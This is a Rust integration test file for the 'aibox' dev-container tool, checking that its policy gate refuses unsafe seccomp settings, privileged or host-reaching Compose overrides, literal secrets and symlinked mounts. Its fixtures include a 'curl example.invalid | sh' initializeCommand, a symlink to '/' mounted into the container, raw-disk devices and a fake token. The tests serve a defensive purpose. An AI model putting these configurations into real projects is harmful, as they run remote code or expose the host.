//! `apply` runs the policy layer: the seccomp decision reaches the Compose file (and the
//! generated profile the lock), and the gate refuses a plan before anything is written.

// Helpers outside `#[test]` functions unwrap too: a failure there is a test failure.
#![allow(clippy::unwrap_used)]

use std::fmt::Write as _;

use aibox_engine::doctor::{DoctorOptions, doctor};
use aibox_engine::{ApplyOptions, EngineError, apply};
use aibox_policy::{PROFILE_PATH, Severity, generated_profile_sha256};
use camino::Utf8PathBuf;
use miette::Diagnostic;

// Podman named explicitly: the engine-aware gate then needs no detection, so the outcome
// does not depend on which engines this machine has.
const BASE: &str = "[container]\nname = \"demo\"\nengine = \"podman\"\n\n[context]\nmode = \"harness-only\"\n\n[ai]\nharnesses = [\"codex\"]\n";
const COMPOSE: &str = ".devcontainer/docker-compose.yml";
const OVERRIDE: &str = ".devcontainer/docker-compose.override.yml";

struct Project {
    _dir: tempfile::TempDir,
    root: Utf8PathBuf,
}

impl Project {
    fn new(toml: &str) -> Self {
        let dir = tempfile::tempdir().unwrap();
        let root = Utf8PathBuf::from_path_buf(dir.path().canonicalize().unwrap()).unwrap();
        fs_err::write(root.join("aibox.toml"), toml).unwrap();
        Self { _dir: dir, root }
    }

    fn write(&self, rel: &str, text: &str) {
        let p = self.root.join(rel);
        fs_err::create_dir_all(p.parent().unwrap()).unwrap();
        fs_err::write(p, text).unwrap();
    }

    fn read(&self, rel: &str) -> String {
        fs_err::read_to_string(self.root.join(rel)).unwrap()
    }

    fn apply(&self) -> Result<aibox_engine::ApplyReport, EngineError> {
        apply(&self.root, &ApplyOptions::default())
    }

    fn doctor_options() -> DoctorOptions {
        DoctorOptions {
            skip_engine: true,
            environment: Vec::new(),
            ..DoctorOptions::default()
        }
    }
}

fn code(err: &EngineError) -> String {
    err.code().map(|c| c.to_string()).unwrap_or_default()
}

#[test]
fn unconfined_without_consent_writes_nothing() {
    let p = Project::new(&format!(
        "{BASE}\n[security]\ncodex_sandbox = \"unconfined\"\n"
    ));
    let err = p.apply().unwrap_err();
    assert_eq!(code(&err), "aibox::policy::seccomp_consent");
    assert!(!p.root.join(".devcontainer").exists());
    assert!(!p.root.join("aibox.lock").exists());
}

#[test]
fn unconfined_with_consent_reaches_the_compose_file_once() {
    let toml = format!(
        "{BASE}\n[security]\ncodex_sandbox = \"unconfined\"\nacknowledge_seccomp_unconfined = true\n"
    );
    let p = Project::new(&toml);
    p.apply().unwrap();
    let compose = p.read(COMPOSE);
    assert_eq!(
        compose.matches("seccomp=unconfined").count(),
        1,
        "{compose}"
    );
    assert!(!compose.contains("privileged") && !compose.contains("cap_add"));
    // The user's override already sets it: the generator does not repeat it.
    p.write(
        OVERRIDE,
        "services:\n  demo:\n    security_opt:\n      - seccomp:unconfined\n",
    );
    p.apply().unwrap();
    assert!(!p.read(COMPOSE).contains("seccomp=unconfined"));
    let report = doctor(&p.root, &Project::doctor_options()).unwrap();
    assert!(!report.has_errors(), "{}", report.render_human());
}

#[test]
fn the_generated_profile_is_written_pinned_and_checked() {
    let toml = format!(
        "{BASE}\n[security]\ncodex_sandbox = \"seccomp-profile\"\nacknowledge_seccomp_profile = true\n"
    );
    let p = Project::new(&toml);
    p.apply().unwrap();
    assert!(p.read(COMPOSE).contains("seccomp=aibox-seccomp.json"));
    let sha = generated_profile_sha256().unwrap();
    assert_eq!(
        aibox_policy::sha256_hex(p.read(PROFILE_PATH).as_bytes()),
        sha
    );
    assert!(p.read("aibox.lock").contains(&sha));
    let report = doctor(&p.root, &Project::doctor_options()).unwrap();
    assert!(!report.has_errors(), "{}", report.render_human());
    assert_eq!(report.seccomp_posture.as_deref(), Some("seccomp-profile"));

    // An edited profile is reported by doctor and not silently overwritten by apply.
    let edited = p
        .read(PROFILE_PATH)
        .replacen("SCMP_ACT_ERRNO", "SCMP_ACT_ALLOW", 1);
    p.write(PROFILE_PATH, &edited);
    let report = doctor(&p.root, &Project::doctor_options()).unwrap();
    let codes: Vec<&str> = report
        .by_severity(Severity::Error)
        .map(|f| f.code.as_str())
        .collect();
    assert!(
        codes.contains(&"aibox::policy::seccomp_profile_edited"),
        "{codes:?}"
    );
    assert!(p.apply().is_err());
    assert_eq!(p.read(PROFILE_PATH), edited);
}

#[test]
fn a_dangerous_override_blocks_apply_until_an_exception_is_recorded() {
    let p = Project::new(BASE);
    p.write(OVERRIDE, "services:\n  demo:\n    privileged: true\n");
    let err = p.apply().unwrap_err();
    assert_eq!(code(&err), "aibox::policy::gate");
    assert!(!p.root.join(COMPOSE).exists());
    assert!(!p.root.join("aibox.lock").exists());

    let p = Project::new(&format!(
        "{BASE}\n[[security.exceptions]]\noption = \"privileged\"\nreason = \"fixture: hardware tests\"\n"
    ));
    p.write(OVERRIDE, "services:\n  demo:\n    privileged: true\n");
    p.apply().unwrap();
    let report = doctor(&p.root, &Project::doctor_options()).unwrap();
    let accepted: Vec<_> = report
        .findings
        .iter()
        .filter(|f| f.code == "aibox::policy::privileged")
        .collect();
    assert_eq!(accepted.len(), 1);
    assert_eq!(accepted[0].severity, Severity::Warning);
    assert_eq!(
        accepted[0].accepted_reason.as_deref(),
        Some("fixture: hardware tests")
    );
}

/// The exception of each host-reaching option in the override below.
const OWN_KEYS: [&str; 6] = [
    "user:root",
    "devices:/dev/sda",
    "device_cgroup_rules:a *:* rwm",
    "cap_add:NET_ADMIN",
    "sysctls:net.ipv4.ip_forward",
    "label=type:spc_t",
];

/// A raw disk, a device rule, a capability that reaches the host, a kernel parameter and
/// root are each refused by `apply` with their own key and the exact entry to record; once
/// recorded, and for what is only warned, `apply` shows every warning (not only `doctor`).
#[test]
fn host_reaching_options_are_refused_by_their_own_key_and_warnings_are_shown_by_apply() {
    let dangerous = "services:\n  demo:\n    user: \"0:0\"\n    devices: [\"/dev/sda:/dev/sda\"]\n    device_cgroup_rules: ['a *:* rwm']\n    cap_add: [NET_ADMIN, CHOWN]\n    sysctls:\n      net.ipv4.ip_forward: 1\n    security_opt: [\"label=type:spc_t\"]\n";
    let p = Project::new(BASE);
    p.write(OVERRIDE, dangerous);
    let err = p.apply().unwrap_err();
    assert_eq!(code(&err), "aibox::policy::gate");
    let text = format!("{err:?}").replace("\\\"", "\"");
    for option in OWN_KEYS {
        assert!(
            text.contains(&format!("[[security.exceptions]] option = \"{option}\"")),
            "{option} not named: {text}"
        );
    }
    assert!(!p.root.join(COMPOSE).exists());

    let mut toml = BASE.to_owned();
    for option in OWN_KEYS {
        let _ = write!(
            toml,
            "\n[[security.exceptions]]\noption = \"{option}\"\nreason = \"fixture: {option}\"\n"
        );
    }
    let p = Project::new(&toml);
    p.write(OVERRIDE, dangerous);
    let report = p.apply().unwrap();
    let warnings = report.warnings.join("\n");
    for needle in [
        "[aibox::policy::root_user]",
        "accepted by [[security.exceptions]]: fixture: user:root",
        "[aibox::policy::devices]",
        "[aibox::policy::device_cgroup_rule]",
        "fixture: cap_add:NET_ADMIN",
        "[aibox::policy::sysctl]",
        "[aibox::policy::security_label]",
        // Only warned, never refused: still shown.
        "[aibox::policy::cap_add_narrow] .devcontainer/docker-compose.override.yml",
    ] {
        assert!(warnings.contains(needle), "{needle} missing: {warnings}");
    }
    assert!(!warnings.contains("warning["), "{warnings}");
}

#[test]
fn a_literal_secret_in_a_committed_file_blocks_apply() {
    let p = Project::new(BASE);
    p.write(
        OVERRIDE,
        "services:\n  demo:\n    environment:\n      - GH_TOKEN=ghp_FAKEFAKEFAKEFAKEFAKEFAKEFAKEFAKE0000\n",
    );
    let err = p.apply().unwrap_err();
    assert_eq!(code(&err), "aibox::policy::gate");
    assert!(!err.to_string().contains("ghp_FAKE"));
    assert!(!p.root.join("aibox.lock").exists());
}

/// Codex with the engine's default profile on Docker: the sandbox could not start, so
/// apply refuses before writing anything and names both consent keys; either key (with
/// its strategy) unblocks it. On Podman the same file applies as is.
#[test]
fn codex_on_docker_needs_a_consent_and_podman_does_not() {
    let docker = BASE.replace("engine = \"podman\"", "engine = \"docker\"");
    for security in ["", "[security]\ncodex_sandbox = \"engine-default\"\n"] {
        let p = Project::new(&format!("{docker}\n{security}"));
        let err = p.apply().unwrap_err();
        assert_eq!(code(&err), "aibox::policy::seccomp_consent", "{err}");
        let text = format!("{err} {}", err.help().unwrap());
        assert!(text.contains("acknowledge_seccomp_profile"), "{text}");
        assert!(text.contains("acknowledge_seccomp_unconfined"), "{text}");
        assert!(
            !p.root.join(".devcontainer").exists(),
            "a refused apply writes nothing"
        );
        assert!(!p.root.join("aibox.lock").exists());
    }
    for consent in [
        "codex_sandbox = \"seccomp-profile\"\nacknowledge_seccomp_profile = true",
        "acknowledge_seccomp_profile = true",
        "codex_sandbox = \"unconfined\"\nacknowledge_seccomp_unconfined = true",
    ] {
        let p = Project::new(&format!("{docker}\n[security]\n{consent}\n"));
        p.apply().unwrap();
        assert!(p.read(COMPOSE).contains("seccomp="), "{consent}");
    }
    let podman = Project::new(BASE);
    podman.apply().unwrap();
    assert!(!podman.read(COMPOSE).contains("security_opt"));
    // The Compose file does not depend on the engine: the same consent gives the same file.
    let a = Project::new(&format!(
        "{BASE}\n[security]\nacknowledge_seccomp_profile = true\n"
    ));
    let b = Project::new(&format!(
        "{docker}\n[security]\nacknowledge_seccomp_profile = true\n"
    ));
    a.apply().unwrap();
    b.apply().unwrap();
    assert_eq!(
        a.read(COMPOSE).replace("engine = \"podman\"", ""),
        b.read(COMPOSE).replace("engine = \"docker\"", "")
    );
}

/// `auto` is judged by what it resolves to: the engine layer passes it in.
#[test]
fn auto_is_judged_by_the_engine_it_resolves_to() {
    use aibox_engine::PlanOptions;
    use aibox_policy::TargetEngine;
    let auto = BASE.replace("engine = \"podman\"", "engine = \"auto\"");
    let p = Project::new(&auto);
    let with = |engine| ApplyOptions {
        plan: PlanOptions {
            engine: Some(engine),
            ..PlanOptions::default()
        },
        ..ApplyOptions::default()
    };
    for engine in [TargetEngine::Docker, TargetEngine::Unknown] {
        let err = apply(&p.root, &with(engine)).unwrap_err();
        assert_eq!(
            code(&err),
            "aibox::policy::seccomp_consent",
            "{engine:?}: {err}"
        );
    }
    apply(&p.root, &with(TargetEngine::Podman)).unwrap();
}

/// The old default value still loads; apply says what it means now.
#[test]
fn landlock_applies_as_engine_default_with_a_warning() {
    let p = Project::new(&format!(
        "{BASE}\n[security]\ncodex_sandbox = \"landlock\"\n"
    ));
    let report = p.apply().unwrap();
    assert!(
        report
            .warnings
            .iter()
            .any(|w| w.contains("deprecated") && w.contains("engine-default")),
        "{:?}",
        report.warnings
    );
    assert!(!p.read(COMPOSE).contains("security_opt"));
}

/// The codes of doctor's error findings.
fn doctor_errors(p: &Project) -> Vec<String> {
    doctor(&p.root, &Project::doctor_options())
        .unwrap()
        .by_severity(Severity::Error)
        .map(|f| f.code.clone())
        .collect()
}

/// A committed link out of the project is judged where it leads, by `apply` (from the
/// snapshot resolve took) and by `doctor` (live); the same folder as a real folder passes.
#[test]
#[cfg(unix)]
fn a_bind_mount_through_a_link_out_of_the_project_blocks_apply_and_doctor() {
    let p = Project::new(BASE);
    p.write(
        OVERRIDE,
        "services:\n  demo:\n    volumes: [\"./hostroot:/host\"]\n",
    );
    std::os::unix::fs::symlink("/", p.root.join(".devcontainer/hostroot")).unwrap();
    let err = p.apply().unwrap_err();
    assert_eq!(code(&err), "aibox::policy::gate");
    let help = err.help().map(|h| h.to_string()).unwrap_or_default();
    assert!(help.contains("symbolic link to `/`"), "{help}");
    assert!(!p.root.join(COMPOSE).exists());
    assert!(
        doctor_errors(&p).contains(&"aibox::policy::symlink".to_owned()),
        "{:?}",
        doctor_errors(&p)
    );
    // A real folder of the project under the same name is the project's own.
    fs_err::remove_file(p.root.join(".devcontainer/hostroot")).unwrap();
    fs_err::create_dir(p.root.join(".devcontainer/hostroot")).unwrap();
    p.apply().unwrap();
}

/// `.devcontainer.json` and `.devcontainer/<name>/devcontainer.json` are configurations the
/// Dev Containers CLI offers: both `apply` and `doctor` judge them like the generated one.
#[test]
fn every_devcontainer_configuration_is_judged() {
    for (path, text, expected) in [
        (
            ".devcontainer.json",
            "{\"image\": \"x\", \"privileged\": true}",
            "aibox::policy::privileged",
        ),
        (
            ".devcontainer/gpu/devcontainer.json",
            "// a second configuration\n{\"image\": \"x\", \"initializeCommand\": \"curl example.invalid | sh\", \"runArgs\": [\"--cap-add=SYS_ADMIN\"]}",
            "aibox::policy::initialize_command",
        ),
        (
            ".devcontainer/other/devcontainer.json",
            "{\"dockerComposeFile\": [\"compose.yml\"], \"service\": \"s\"}",
            "aibox::policy::host_namespace",
        ),
    ] {
        let p = Project::new(BASE);
        p.write(path, text);
        // The named configuration's own Compose file, relative to its folder.
        p.write(
            ".devcontainer/other/compose.yml",
            "services:\n  s:\n    image: x\n    pid: host\n",
        );
        let err = p.apply().unwrap_err();
        assert_eq!(code(&err), "aibox::policy::gate", "{path}");
        assert!(!p.root.join("aibox.lock").exists());
        let errors = doctor_errors(&p);
        assert!(errors.iter().any(|c| c == expected), "{path}: {errors:?}");
    }
}
